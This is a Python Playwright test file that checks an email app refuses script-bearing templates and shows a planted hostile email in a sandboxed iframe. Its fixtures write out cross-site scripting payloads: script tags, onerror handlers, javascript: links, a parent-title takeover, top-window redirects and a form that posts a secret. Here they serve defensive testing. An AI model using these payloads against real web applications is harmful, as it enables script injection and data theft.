"""Somebody else's HTML in our pages: an email's pictures load, and nothing in it can run, reach the app, or lead it away."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, StorageState, expect

from tests.browser.conftest import Visit
from tests.support.browser import heading, wait_idle
from tests.support.landing import Landing, landing
from tests.support.product import Product

pytestmark = [pytest.mark.browser, pytest.mark.xdist_group("browser")]

# What is said, and about which template.
REFUSED = {
    "<script> in line 1 is not allowed": "<html><body><p>Hello</p><script>fetch('/')</script></body></html>",
    "<script> in line 2 is not allowed": "<mjml><mj-body><mj-raw>\n<script>fetch('/')</script></mj-raw></mj-body></mjml>",
    "“javascript:alert(1)” in line 1 is not allowed": '<html><body><a href="javascript:alert(1)">Hello</a></body></html>',
    "“onerror” in line 1 is not allowed": '<html><body><img src="x" onerror="alert(1)"></body></html>',
}
KEY = "999-hostile"
HOSTILE = """To: victim@example.com
From: eve@example.com
Subject: Hostile <script>alert(1)</script> [x](javascript:alert(1))
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<!doctype html><html><head><title>mail</title>
<script src="{site}/outer.js"></script>
<script>fetch("{site}/ran"); parent.document.title = "taken"; top.location = "{site}/taken"</script>
<meta http-equiv="refresh" content="0; url={site}/refreshed">
</head><body>
<h1>Dear victim</h1>
<img src="{site}/picture.gif" alt="A picture">
<img src="/nowhere.gif" onerror="fetch('{site}/handler'); parent.document.title = 'taken'" alt="Broken">
<a href="{site}/away" target="_top">Away</a> <a href="{site}/beside">Beside</a>
<form action="{site}/stolen" target="_top"><input name="q" value="secret"><button>Give</button></form>
<iframe srcdoc="<script>fetch('{site}/inner')</script>"></iframe>
</body></html>
"""
PARENT = """() => { try { return parent.document.title } catch (error) { return error.name } }"""


@pytest.fixture
def site() -> Iterator[Landing]:
    with landing() as started:
        yield started


@pytest.fixture
def hostile_mail(product: Product, site: Landing) -> Iterator[None]:
    """An email in the outbox as no template of ours would be let through."""
    path = product.data_dir / "outbox" / "1" / f"{KEY}.eml"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(HOSTILE.format(site=site.url).replace("\n", "\r\n"))
    yield
    path.unlink()


@pytest.fixture
def page(visit: Visit, signed_in: StorageState) -> Page:
    return visit(storage_state=signed_in).new_page()


def test_a_template_with_a_script_is_refused_and_what_was_typed_stays(product: Product, page: Page) -> None:
    page.goto(f"{product.app_url}/templates")
    heading(page, "Templates")
    page.get_by_role("button", name="New template").click()
    dialog = page.get_by_role("dialog", name="New template")
    dialog.get_by_role("radio", name="Paste").click()
    dialog.get_by_role("textbox", name="Name").fill("Hostile")
    source = dialog.get_by_role("textbox", name="MJML or HTML")
    for words, hostile in REFUSED.items():
        source.fill(hostile)
        dialog.get_by_role("button", name="Make template").click()
        expect(dialog.get_by_role("alert")).to_contain_text(words)
        expect(source).to_have_value(hostile)
    page.goto(f"{product.app_url}/templates")
    heading(page, "Templates")
    wait_idle(page)
    expect(page.get_by_text("Hostile", exact=True)).to_have_count(0)


@pytest.mark.usefixtures("hostile_mail")
def test_an_email_on_show_can_not_run_reach_the_app_or_lead_it_away(product: Product, page: Page, site: Landing) -> None:
    address = f"{product.app_url}/outbox?mail={KEY}"
    with page.expect_response(f"{site.url}/picture.gif"):  # pictures are live
        page.goto(address)
    mail = page.frame_locator("iframe")
    expect(mail.get_by_role("heading", name="Dear victim")).to_be_visible()
    frame = next(one for one in page.frames if "/frames/" in one.url)
    assert frame.evaluate("() => self.origin") == "null"
    assert frame.evaluate(PARENT) == "SecurityError"
    mail.get_by_role("link", name="Away").click()
    mail.get_by_role("button", name="Give").click()
    with page.context.expect_page() as opened:
        mail.get_by_role("link", name="Beside").click()
    expect(opened.value.get_by_role("heading", name="You have arrived")).to_be_visible()
    expect(page.get_by_role("heading", name="Outbox")).to_be_visible()
    assert page.url == address
    assert page.title() == "Outbox · Postwright"
    assert set(site.asked) - {"/favicon.ico"} == {"/picture.gif", "/beside"}


@pytest.mark.usefixtures("hostile_mail")
def test_an_email_is_shown_to_whoever_opened_it_only(product: Product, page: Page, visit: Visit) -> None:
    page.goto(f"{product.app_url}/outbox?mail={KEY}")
    expect(page.frame_locator("iframe").get_by_role("heading", name="Dear victim")).to_be_visible()
    shown = next(one.url for one in page.frames if "/frames/" in one.url)
    assert page.request.get(shown).status == 200
    assert visit().request.get(shown).status == 404
